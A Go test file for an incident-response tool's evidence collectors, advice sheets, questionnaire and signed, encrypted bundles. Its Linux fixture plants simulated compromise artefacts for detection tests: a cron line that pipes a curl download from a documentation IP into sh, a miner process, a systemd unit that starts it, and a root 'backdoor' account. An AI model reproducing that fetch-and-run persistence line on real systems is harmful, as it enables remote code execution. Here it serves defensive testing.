package incident

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"filippo.io/age"
	"github.com/vigie-cyber/vigie/checks"
	"github.com/vigie-cyber/vigie/checks/checkstest"
	"github.com/vigie-cyber/vigie/checks/winps"
	"github.com/vigie-cyber/vigie/protocol"
)

func fixture(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "incident", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestAdviceEveryKindBothLanguagesAndCited(t *testing.T) {
	a, err := LoadAdvice()
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Check(); err != nil {
		t.Fatal(err)
	}
	for _, k := range protocol.IncidentKinds {
		for _, lang := range []string{"fr", "en"} {
			var out bytes.Buffer
			a.PrintAdvice(&out, k, lang)
			s := out.String()
			if !strings.Contains(s, a.Kinds[k].Refs[0].URL) || !strings.Contains(s, a.Kinds[k].Refs[0].ID) {
				t.Errorf("%s/%s: sheet reference not printed", k, lang)
			}
			// The five reflexes come first whatever the kind.
			steps := a.Steps(k, lang)
			if len(steps) < 6 || steps[0] != a.Common[lang][0] {
				t.Errorf("%s/%s: common measures missing: %v", k, lang, steps)
			}
		}
	}
	fr := strings.Join(a.Steps("ransomware", "fr"), " ")
	for _, want := range []string{"sans l'éteindre", "Ne payez", "N'effacez", "preuves", "CSIRT"} {
		if !strings.Contains(fr, want) {
			t.Errorf("ransomware advice lacks %q", want)
		}
	}
}

func TestAdviceCheckCatchesGaps(t *testing.T) {
	for name, edit := range map[string]func(a *Advice){
		"kind missing": func(a *Advice) { delete(a.Kinds, "fraud") },
		"english missing": func(a *Advice) {
			k := a.Kinds["mailbox"]
			k.EN = nil
			a.Kinds["mailbox"] = k
		},
		"no reference": func(a *Advice) {
			k := a.Kinds["defacement"]
			k.Refs = nil
			a.Kinds["defacement"] = k
		},
		"reference without address": func(a *Advice) {
			k := a.Kinds["other"]
			k.Refs = []Ref{{ID: "X"}}
			a.Kinds["other"] = k
		},
		"unknown kind": func(a *Advice) { a.Kinds["phishing"] = a.Kinds["other"] },
	} {
		a, err := parseAdvice(adviceJSON)
		if err != nil {
			t.Fatal(err)
		}
		edit(a)
		if a.Check() == nil {
			t.Errorf("%s: not detected", name)
		}
	}
	if _, err := parseAdvice([]byte("{")); err == nil {
		t.Error("broken advice file accepted")
	}
}

func TestAskAllSkippableAndParsed(t *testing.T) {
	a, _ := LoadAdvice()
	now := checkstest.Clock
	// Everything skipped: kind falls back to other, nothing invented.
	got, err := Ask(strings.NewReader("\n\n\n\n\n\n\n"), &bytes.Buffer{}, "fr", a, "", now)
	if err != nil || got.Kind != "other" || !got.AwareAt.IsZero() || got.Contact != "" || got.PersonalData != nil {
		t.Fatalf("skipped: %+v %v", got, err)
	}
	// A bad date is asked again; a number picks the kind; end of input keeps the rest.
	var out bytes.Buffer
	// A personal-data answer that is neither yes, no nor don't know is asked again.
	got, err = Ask(strings.NewReader("3\nhier\n2026-11-30 08:15\nla messagerie\nmaybe\nYes\nrègles de transfert\nM. Y 0600\n"), &out, "en", a, "", now)
	if err != nil {
		t.Fatal(err)
	}
	want := time.Date(2026, 11, 30, 8, 15, 0, 0, now.Location())
	if got.Kind != "mailbox" || !got.AwareAt.Equal(want) || got.Affected != "la messagerie" || got.Seen != "règles de transfert" || got.Contact != "M. Y 0600" || got.Summary != "" ||
		got.PersonalData == nil || !*got.PersonalData {
		t.Fatalf("got %+v", got)
	}
	if !strings.Contains(out.String(), "Answer yes, no or don't know") || !strings.Contains(out.String(), "CNIL within 72 hours") {
		t.Errorf("personal-data retry or CNIL note not shown:\n%s", out.String())
	}
	// French: non is an answer (false), not a skip; je ne sais pas leaves
	// it to the CSIRT and says so.
	got, _ = Ask(strings.NewReader("1\n\npostes\nnon\n"), &bytes.Buffer{}, "fr", a, "", now)
	if got.PersonalData == nil || *got.PersonalData {
		t.Errorf("non: %+v", got.PersonalData)
	}
	var fr bytes.Buffer
	got, _ = Ask(strings.NewReader("1\n\npostes\nJe ne sais pas\n"), &fr, "fr", a, "", now)
	if got.PersonalData != nil || !strings.Contains(fr.String(), "le CSIRT vous aidera à le déterminer") {
		t.Errorf("je ne sais pas: %+v\n%s", got.PersonalData, fr.String())
	}
	if !strings.Contains(out.String(), "WHAT TO DO NOW") || !strings.Contains(out.String(), "illisible") {
		t.Errorf("advice or date error not shown:\n%s", out.String())
	}
	if strings.Index(out.String(), "WHAT TO DO NOW") > strings.Index(out.String(), a.Questions["en"]["aware_at"]) {
		t.Error("the advice must come before the questions")
	}
}

func TestParsePersonalData(t *testing.T) {
	for in, want := range map[string]string{
		"oui": "true", "O": "true", " yes ": "true", "y": "true",
		"non": "false", "No.": "false", "n": "false",
		"": "nil", "ne sais pas": "nil", "Je ne sais pas": "nil", "je  ne sais   pas": "nil", "don't know": "nil", "don’t know": "nil", "?": "nil",
		"peut-être": "invalid", "maybe": "invalid", "ouiii": "invalid",
	} {
		v, ok := ParsePersonalData(in)
		got := "invalid"
		switch {
		case ok && v == nil:
			got = "nil"
		case ok:
			got = strconv.FormatBool(*v)
		}
		if got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
}

func TestParseAwareAt(t *testing.T) {
	loc := time.FixedZone("CET", 3600)
	for in, want := range map[string]time.Time{
		"2026-11-30T08:15:00+01:00": time.Date(2026, 11, 30, 7, 15, 0, 0, time.UTC),
		"2026-11-30 08:15":          time.Date(2026, 11, 30, 7, 15, 0, 0, time.UTC),
		"30/11/2026 08:15":          time.Date(2026, 11, 30, 7, 15, 0, 0, time.UTC),
	} {
		got, err := ParseAwareAt(in, loc)
		if err != nil || !got.Equal(want) {
			t.Errorf("%q: %v %v", in, got, err)
		}
	}
	if _, err := ParseAwareAt("lundi", loc); err == nil {
		t.Error("bad date accepted")
	}
}

func recentTime() time.Time { return checkstest.Clock.Add(-3 * 24 * time.Hour) }
func oldTime() time.Time    { return checkstest.Clock.Add(-400 * 24 * time.Hour) }

func linuxHost(t *testing.T) *checks.Host {
	h := checkstest.Host()
	h.FS = fstest.MapFS{
		"proc/net/tcp":                           {Data: fixture(t, "linux/proc_net_tcp")},
		"proc/net/tcp6":                          {Data: fixture(t, "linux/proc_net_tcp6")},
		"proc/4242/cmdline":                      {Data: []byte("/tmp/.x/miner\x00--pool\x00203.0.113.9:3333\x00")},
		"tmp/.x/miner":                           {Data: []byte("\x7fELF planted"), Mode: 0o755, ModTime: recentTime()},
		"tmp/notes.txt":                          {Data: []byte("x"), ModTime: recentTime()},
		"home/mairie/old.sh":                     {Data: []byte("#!/bin/sh"), Mode: 0o755, ModTime: oldTime()},
		"usr/bin/sshd":                           {Data: []byte("sshd binary"), Mode: 0o755, ModTime: oldTime()},
		"etc/crontab":                            {Data: []byte("# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"), ModTime: oldTime()},
		"etc/cron.d/.placeholder":                {Data: []byte("# placeholder\n"), ModTime: oldTime()},
		"etc/cron.d/sysupdate":                   {Data: []byte("*/5 * * * * root curl -s http://203.0.113.9/x | sh\n"), ModTime: recentTime()},
		"etc/systemd/system/ssh.service":         {Data: []byte("[Service]\nExecStart=/usr/sbin/sshd\n"), ModTime: oldTime()},
		"etc/systemd/system/dbus-helper.service": {Data: []byte("[Service]\nExecStart=/tmp/.x/miner\n"), ModTime: recentTime()},
		"etc/passwd":                             {Data: fixture(t, "linux/passwd")},
		"etc/group":                              {Data: fixture(t, "linux/group")},
		"var/log/auth.log":                       {Data: []byte("Nov 22 10:00:00 host sshd[1]: Accepted password for backdoor from 203.0.113.7\n")},
		"usr/bin/restic":                         {Data: []byte("restic"), Mode: 0o755, ModTime: oldTime()},
	}
	h.Facts = checkstest.Facts{
		Procs:  []checks.Process{{PID: 4242, Name: "miner", Exe: "/tmp/.x/miner"}, {PID: 1, Name: "sshd", Exe: "/usr/bin/sshd"}, {PID: 77, Name: "gone", Exe: "/tmp/gone (deleted)"}},
		Listen: []checks.Listener{{Proto: "tcp", Address: "127.0.0.1", Port: 3306, PID: 900, Process: "mariadbd"}},
	}
	h.Exec = &checkstest.Runner{Cmds: map[string]checkstest.Cmd{
		"journalctl --no-pager -o json -n 500 SYSLOG_FACILITY=4 SYSLOG_FACILITY=10": {Out: string(fixture(t, "linux/journal.json"))},
		"journalctl --no-pager -o json -n 500 -p warning":                           {Out: ""},
		"last -F -w -n 200": {Out: "backdoor pts/0 203.0.113.7 Sun Nov 22 10:00:01 2026   still logged in\n\nwtmp begins Mon Nov  2 2026\n"},
	}}
	return h
}

func decode[T any](t *testing.T, files []File, name string) (Output, T) {
	t.Helper()
	var raw struct {
		Output
		Data json.RawMessage `json:"data"`
	}
	for _, f := range files {
		if f.Name == name+".json" {
			if err := json.Unmarshal(f.Data, &raw); err != nil {
				t.Fatal(err)
			}
			var v T
			if raw.Status == "ok" {
				if err := json.Unmarshal(raw.Data, &v); err != nil {
					t.Fatal(err)
				}
			}
			return raw.Output, v
		}
	}
	t.Fatalf("no %s in the bundle", name)
	panic("unreachable")
}

func TestCollectLinuxFromFixtures(t *testing.T) {
	h := linuxHost(t)
	files, status := Collect(context.Background(), h, Collectors, Options{})
	if len(files) != len(Collectors) || len(status) != len(Collectors) {
		t.Fatalf("%d files, %d statuses", len(files), len(status))
	}
	for _, s := range status {
		if s.Name == "scorecard" {
			if s.Status != "error" || !strings.Contains(s.Error, "état") {
				t.Errorf("scorecard without a state dir: %+v", s)
			}
			continue
		}
		if s.Status != "ok" {
			t.Errorf("%s: %s %s", s.Name, s.Status, s.Error)
		}
	}

	_, procs := decode[[]Proc](t, files, "processes")
	sum := sha256.Sum256([]byte("\x7fELF planted"))
	if len(procs) != 3 || procs[0].SHA256 != hex.EncodeToString(sum[:]) || procs[0].Cmdline != "/tmp/.x/miner --pool 203.0.113.9:3333" {
		t.Fatalf("processes: %+v", procs)
	}
	if !procs[2].Deleted || procs[2].Exe != "/tmp/gone" || procs[2].SHA256 != "" {
		t.Errorf("deleted binary: %+v", procs[2])
	}

	_, nw := decode[Network](t, files, "network")
	want := map[string]string{"127.0.0.1:3306": "LISTEN", "10.0.0.5:22": "ESTABLISHED", "[::1]:631": "LISTEN"}
	for _, c := range nw.Connections {
		if want[c.Local] != c.State {
			t.Errorf("connection %+v", c)
		}
		delete(want, c.Local)
		if c.Local == "10.0.0.5:22" && c.Remote != "10.0.0.9:51202" {
			t.Errorf("remote %q", c.Remote)
		}
	}
	if len(want) != 0 || len(nw.Listeners) != 1 || nw.Errors["udp"] == "" {
		t.Errorf("missing %v, listeners %v, errors %v", want, nw.Listeners, nw.Errors)
	}

	_, per := decode[Persistence](t, files, "persistence")
	recent := map[string]bool{}
	for _, e := range per.Entries {
		recent[e.Location] = e.Recent
	}
	if !recent["/etc/cron.d/sysupdate"] || !recent["/etc/systemd/system/dbus-helper.service"] {
		t.Errorf("planted persistence not flagged recent: %v", recent)
	}
	if r, ok := recent["/etc/systemd/system/ssh.service"]; !ok || r {
		t.Errorf("old unit: listed %v recent %v", ok, r)
	}
	if per.Recent != 2 || !per.Entries[0].Recent {
		t.Errorf("recent count %d, first %+v", per.Recent, per.Entries[0])
	}
	for _, e := range per.Entries {
		if e.Location == "/etc/cron.d/sysupdate" && (len(e.Lines) != 1 || !strings.Contains(e.Lines[0], "curl")) {
			t.Errorf("cron lines %v", e.Lines)
		}
	}

	_, rf := decode[RecentFiles](t, files, "recent-executables")
	if len(rf.Files) != 1 || rf.Files[0].Path != "/tmp/.x/miner" || rf.Files[0].SHA256 == "" {
		t.Errorf("recent executables: %+v", rf.Files)
	}

	_, acc := decode[Accounts](t, files, "accounts")
	var bd *Account
	for i := range acc.Accounts {
		if acc.Accounts[i].Name == "backdoor" {
			bd = &acc.Accounts[i]
		}
	}
	if len(acc.Accounts) != 4 || bd == nil || bd.UID != 0 || !bd.Login || strings.Join(bd.Groups, ",") != "sudo" || acc.Errors["etc/passwd"] == "" || len(acc.Logons) != 1 {
		t.Errorf("accounts: %+v", acc)
	}

	_, ev := decode[Events](t, files, "events")
	if len(ev.Events) != 3 || !ev.Events[0].Recent || ev.Events[2].Recent || ev.Events[1].Message != "root \uFFFD" || len(ev.Lines) != 1 {
		t.Errorf("events: %+v", ev)
	}
	if ev.Errors == nil || len(ev.Read) != 3 {
		t.Errorf("the unreadable journal line must be counted and sources named: %+v %v", ev.Errors, ev.Read)
	}

	_, bk := decode[Backups](t, files, "backups")
	if len(bk.Tools) != 1 || bk.Tools[0].Name != "restic" {
		t.Errorf("backups: %+v", bk)
	}
}

func winHost(t *testing.T) *checks.Host {
	h := checkstest.Host()
	h.OS = "windows"
	h.FS = fstest.MapFS{
		"Users/Public/svc.exe":                       {Data: []byte("MZ planted"), ModTime: recentTime()},
		"Users/mairie/AppData/Local/Temp/a.exe":      {Data: []byte("MZ old"), ModTime: oldTime()},
		"Users/mairie/Documents/rapport.docx":        {Data: []byte("doc"), ModTime: recentTime()},
		"Windows/System32/spoolsv.exe":               {Data: []byte("MZ spool"), ModTime: oldTime()},
		"Windows/system32/SecurityHealthSystray.exe": {Data: []byte("MZ sh"), ModTime: oldTime()},
	}
	cmds := map[string]checkstest.Cmd{}
	for body, file := range map[string]string{
		psProcesses: "processes", psConnections: "connections", psTasks: "tasks", psServices: "services",
		psRunKeys: "runkeys", psAccounts: "accounts", psEvents: "events", psShadows: "shadows",
	} {
		cmds[winps.Key(body)] = checkstest.Cmd{Out: winps.Envelope(string(fixture(t, "windows/"+file+".json")), true)}
	}
	h.Exec = &checkstest.Runner{Cmds: cmds}
	return h
}

func TestCollectWindowsFromFixtures(t *testing.T) {
	files, status := Collect(context.Background(), winHost(t), Collectors, Options{})
	for _, s := range status {
		if s.Status != "ok" && s.Name != "scorecard" {
			t.Errorf("%s: %s %s", s.Name, s.Status, s.Error)
		}
	}
	_, per := decode[Persistence](t, files, "persistence")
	got := map[string]bool{}
	for _, e := range per.Entries {
		got[e.Kind+"/"+e.Name] = e.Recent
	}
	want := map[string]bool{"task/Updater": true, "task/ScheduledDefrag": false, "service/svchelper": true, "service/Spooler": false, "run-key/OneDriveSync": true, "run-key/SecurityHealth": false}
	for k, v := range want {
		if r, ok := got[k]; !ok || r != v {
			t.Errorf("%s: listed %v, recent %v, want recent %v", k, ok, r, v)
		}
	}
	_, ev := decode[Events](t, files, "events")
	ids := map[int]int{}
	for _, e := range ev.Events {
		if e.Recent {
			ids[e.ID]++
		}
	}
	for _, id := range []int{4624, 4625, 4720, 4732, 7045, 1102} {
		if ids[id] != 1 {
			t.Errorf("event %d: %d recent", id, ids[id])
		}
	}
	_, procs := decode[[]Proc](t, files, "processes")
	sum := sha256.Sum256([]byte("MZ planted"))
	if len(procs) != 2 || procs[1].SHA256 != hex.EncodeToString(sum[:]) {
		t.Errorf("processes: %+v", procs)
	}
	_, nw := decode[Network](t, files, "network")
	if len(nw.Connections) != 2 || nw.Connections[0].Local != "0.0.0.0:3389" || nw.Connections[0].Remote != "" || nw.Connections[1].Remote != "198.51.100.4:443" {
		t.Errorf("connections: %+v", nw.Connections)
	}
	_, rf := decode[RecentFiles](t, files, "recent-executables")
	if len(rf.Files) != 1 || rf.Files[0].Path != "/Users/Public/svc.exe" {
		t.Errorf("recent executables: %+v", rf.Files)
	}
	_, acc := decode[Accounts](t, files, "accounts")
	if len(acc.Accounts) != 2 || acc.Accounts[1].Name != "support2" || len(acc.Accounts[1].Groups) != 1 {
		t.Errorf("accounts: %+v", acc.Accounts)
	}
	o, bk := decode[Backups](t, files, "backups")
	if o.Status != "ok" || len(bk.ShadowCopies) != 0 {
		t.Errorf("no shadow copy must read as an empty list: %+v %+v", o, bk)
	}
}

func TestCommandBinary(t *testing.T) {
	for in, want := range map[string]string{
		`"C:\Program Files\X\x.exe" /s`:        `C:\Program Files\X\x.exe`,
		`C:\Program Files\Y\y.exe -k run`:      `C:\Program Files\Y\y.exe`,
		`C:\Windows\system32\svchost.exe -k n`: `C:\Windows\system32\svchost.exe`,
		`rundll32.exe C:\x.dll,Entry`:          `rundll32.exe`,
		``:                                     ``,
	} {
		if got := CommandBinary(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func TestFailingCollectorRecordedOthersRun(t *testing.T) {
	h := linuxHost(t)
	cs := []Collector{
		{"boom", func(context.Context, *checks.Host, Options) (any, error) { panic("bad") }},
		{"fails", func(context.Context, *checks.Host, Options) (any, error) {
			return nil, errors.New("lecture impossible")
		}},
		{"slow", func(ctx context.Context, _ *checks.Host, _ Options) (any, error) { <-ctx.Done(); return nil, ctx.Err() }},
		{"big", func(context.Context, *checks.Host, Options) (any, error) { return strings.Repeat("x", 4000), nil }},
		{"accounts", collectAccounts},
	}
	files, st := Collect(context.Background(), h, cs, Options{Timeout: 500 * time.Millisecond, MaxBytes: 3000})
	want := []string{"error", "error", "error", "truncated", "ok"}
	for i, s := range st {
		if s.Status != want[i] {
			t.Errorf("%s: %s (%s), want %s", s.Name, s.Status, s.Error, want[i])
		}
	}
	var total int
	for _, f := range files {
		total += len(f.Data)
	}
	if total > 3000+2000 { // the budget, plus the small status records
		t.Errorf("size budget not held: %d bytes", total)
	}
	if !strings.Contains(st[0].Error, "bad") || !strings.Contains(st[1].Error, "lecture impossible") {
		t.Errorf("errors not recorded: %+v", st)
	}
}

func TestScorecardFromState(t *testing.T) {
	state := fstest.MapFS{
		"state.json":                             {Data: []byte(`{"agent_id":"a1","last_score":62,"last_level":2}`)},
		"spool/00000000000000000007-x.dsse.json": {Data: []byte(`{"payloadType":"p","payload":"","signatures":[]}`)},
		"spool/00000000000000000009-y.dsse.json": {Data: []byte(`{"payloadType":"q","payload":"","signatures":[]}`)},
	}
	v, err := collectScorecard(context.Background(), checkstest.Host(), Options{StateFS: state})
	if err != nil {
		t.Fatal(err)
	}
	sc := v.(*Scorecard)
	if !bytes.Contains(sc.State, []byte(`"last_score":62`)) || !strings.Contains(sc.LatestName, "09-y") {
		t.Errorf("%+v", sc)
	}
	if _, err := collectScorecard(context.Background(), checkstest.Host(), Options{StateFS: fstest.MapFS{"state.json": {Data: []byte("{")}}}); err == nil {
		t.Error("broken state.json accepted")
	}
}

func buildTestBundle(t *testing.T, key ed25519.PrivateKey, id *age.X25519Identity) (*Bundle, []File) {
	files, st := Collect(context.Background(), linuxHost(t), Collectors, Options{})
	m := &protocol.IncidentManifest{Hostname: "mairie-01", OS: "linux", DeclaredAt: checkstest.Clock, AgentID: "a1",
		Answers: protocol.IncidentAnswers{Kind: "ransomware", AwareAt: checkstest.Clock.Add(-time.Hour), Contact: "Mme X"}, Collectors: st}
	var r age.Recipient
	var rs string
	if id != nil {
		r, rs = id.Recipient(), id.Recipient().String()
	}
	b, err := Build(files, m, key, r, rs)
	if err != nil {
		t.Fatal(err)
	}
	return b, files
}

func TestBundleRoundTrip(t *testing.T) {
	pub, key, _ := ed25519.GenerateKey(nil)
	id, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	b, files := buildTestBundle(t, key, id)
	if !b.Signed || !bytes.HasPrefix(b.Archive, []byte("age-encryption.org/v1")) {
		t.Fatal("bundle not signed or not encrypted")
	}
	if bytes.Contains(b.Archive, []byte("backdoor")) {
		t.Fatal("plaintext visible in the encrypted archive")
	}
	dir := t.TempDir()
	ap, mp, err := b.WriteDir(dir, Stamp(checkstest.Clock))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{ap, mp} {
		if st, err := os.Stat(p); err != nil || st.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v %v", p, st.Mode(), err)
		}
	}
	mdata, _ := os.ReadFile(mp)
	m, err := OpenManifest(mdata, pub)
	if err != nil {
		t.Fatal(err)
	}
	if m.Answers.Kind != "ransomware" || m.AgentID != "a1" || !m.Encrypted || len(m.Files) != len(files) {
		t.Fatalf("manifest %+v", m)
	}
	f, _ := os.Open(ap)
	defer f.Close()
	got, err := Extract(f, m, id)
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		if !bytes.Equal(got[file.Name], file.Data) {
			t.Errorf("%s differs after the round trip", file.Name)
		}
	}
	// Another identity cannot open it; another agent key cannot vouch for it.
	other, _ := age.GenerateX25519Identity()
	if _, err := Extract(bytes.NewReader(b.Archive), m, other); err == nil {
		t.Error("decrypted with the wrong identity")
	}
	otherPub, _, _ := ed25519.GenerateKey(nil)
	if _, err := OpenManifest(mdata, otherPub); err == nil {
		t.Error("manifest verified with another key")
	}
}

func TestBundleTamperingDetected(t *testing.T) {
	pub, key, _ := ed25519.GenerateKey(nil)
	b, _ := buildTestBundle(t, key, nil) // unencrypted: the tar itself is edited
	m, err := OpenManifest(b.Manifest, pub)
	if err != nil {
		t.Fatal(err)
	}
	i := bytes.Index(b.Archive, []byte("backdoor"))
	if i < 0 {
		t.Fatal("fixture account not in archive")
	}
	tampered := bytes.Clone(b.Archive)
	tampered[i] = 'B'
	if _, err := Extract(bytes.NewReader(tampered), m, nil); !errors.Is(err, ErrTampered) {
		t.Errorf("edited file: %v", err)
	}
	if _, err := Extract(bytes.NewReader(b.Archive[:len(b.Archive)/2]), m, nil); !errors.Is(err, ErrTampered) {
		t.Errorf("truncated archive: %v", err)
	}
	// A manifest edited to match the tampered file breaks the signature.
	var env protocol.Envelope
	json.Unmarshal(b.Manifest, &env)
	payload, _ := protocol.OpenUnverified(env, protocol.IncidentPayloadType)
	env.Payload = encodeStd(bytes.Replace(payload, []byte(`"ransomware"`), []byte(`"other"`), 1))
	forged, _ := json.Marshal(env)
	if _, err := OpenManifest(forged, pub); err == nil {
		t.Error("forged manifest accepted")
	}
	// An unsigned manifest is refused where a signature is expected.
	var bare protocol.IncidentManifest
	json.Unmarshal(payload, &bare)
	raw, _ := json.Marshal(bare)
	if _, err := OpenManifest(raw, pub); !errors.Is(err, ErrUnsigned) {
		t.Errorf("unsigned manifest: %v", err)
	}
	if _, err := Extract(bytes.NewReader(b.Archive), m, nil); err != nil {
		t.Errorf("intact archive refused: %v", err)
	}
}
